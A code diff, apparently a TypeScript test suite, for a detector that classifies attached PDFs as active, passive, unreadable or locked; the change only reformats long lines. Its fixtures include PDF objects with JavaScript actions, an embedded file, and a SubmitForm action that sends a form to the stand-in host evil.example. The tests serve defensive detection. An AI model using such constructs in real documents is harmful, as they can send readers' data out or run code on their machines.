@@ -6,7 +6,11 @@ const catalog = '1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n';
 
 /** A PDF with a stream of these bytes below this dictionary. */
 function withStream(dictionary: string, bytes: Uint8Array): Uint8Array {
-  return Buffer.concat([Buffer.from(`%PDF-1.7\n${catalog}3 0 obj\n<<${dictionary}/Length ${bytes.length}>>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF', 'latin1')]);
+  return Buffer.concat([
+    Buffer.from(`%PDF-1.7\n${catalog}3 0 obj\n<<${dictionary}/Length ${bytes.length}>>\nstream\n`, 'latin1'),
+    bytes,
+    Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF', 'latin1'),
+  ]);
 }
 
 const objects = (words: string): Uint8Array => deflateSync(Buffer.from(`4 0 ${words}`, 'latin1'));
@@ -20,13 +24,19 @@ describe('a PDF that somebody attaches', () => {
     ['a file inside', packed, objects('<</Names<</EmbeddedFiles 5 0 R>>>>')],
     ['a form that sends itself', packed, objects('<</S/SubmitForm/F(https://evil.example)>>')],
     ['objects packed under another name', '/N 1/First 4/Filter/FlateDecode', objects('<</S/JavaScript>>')],
-    ['objects in a stream that is not packed', '/Type/ObjStm/N 1/First 4', Buffer.from('4 0 <</S/JavaScript>>', 'latin1')],
+    [
+      'objects in a stream that is not packed',
+      '/Type/ObjStm/N 1/First 4',
+      Buffer.from('4 0 <</S/JavaScript>>', 'latin1'),
+    ],
   ])('with %s is active', (_what, dictionary, bytes) => {
     expect(kindOfPdf(withStream(dictionary, bytes))).toBe('active');
   });
 
   it('is not let in where it cannot be looked into', () => {
-    expect(kindOfPdf(withStream('/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from('00')))).toBe('unreadable');
+    expect(
+      kindOfPdf(withStream('/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from('00'))),
+    ).toBe('unreadable');
     expect(kindOfPdf(withStream(packed, Buffer.from('no zlib')))).toBe('unreadable');
     expect(kindOfPdf(Buffer.from(`%PDF-1.7\n${catalog}trailer\n<</Root 1 0 R/Encrypt 9 0 R>>`))).toBe('locked');
   });
@@ -40,6 +50,8 @@ describe('a PDF that somebody attaches', () => {
 
   it('with words alone is passive, whatever bytes stand in its page', () => {
     expect(kindOfPdf(withStream(packed, objects('<</Type/Page/MediaBox[0 0 595 842]>>')))).toBe('passive');
-    expect(kindOfPdf(withStream('/Filter/FlateDecode', deflateSync(Buffer.from('BT (read /JavaScript here) Tj ET'))))).toBe('passive');
+    expect(
+      kindOfPdf(withStream('/Filter/FlateDecode', deflateSync(Buffer.from('BT (read /JavaScript here) Tj ET')))),
+    ).toBe('passive');
   });
 });
